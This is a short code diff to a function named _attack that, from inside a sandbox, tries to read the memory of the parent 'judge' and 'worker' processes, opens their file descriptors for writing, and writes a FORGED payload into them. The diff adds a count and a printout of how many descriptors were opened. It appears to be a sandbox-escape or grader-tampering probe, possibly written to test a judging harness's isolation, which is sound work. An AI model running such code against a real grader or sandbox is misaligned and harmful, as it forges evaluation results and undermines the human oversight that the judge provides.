@@ -30,16 +30,19 @@ def _attack():
     libc = ctypes.CDLL(None, use_errno=True)
     for who, pid in (("judge", os.getppid()), ("worker", _parent_of(os.getppid()))):
         _try(f"{who} mem", lambda: open(f"/proc/{pid}/mem", "rb").close())
-        _try(f"{who} fds", lambda: os.listdir(f"/proc/{pid}/fd"))
 
         def write_fds():
-            for name in os.listdir(f"/proc/{pid}/fd"):
+            names = os.listdir(f"/proc/{pid}/fd")
+            opened = 0
+            for name in names:
                 try:
                     fd = os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK)
+                    opened += 1
                     os.write(fd, FORGED)
                     os.close(fd)
                 except OSError:
                     pass
+            print(f"{who} fd opens: {opened} of {len(names)}", flush=True)
         _try(f"{who} fd writes", write_fds)
 
         def attach():
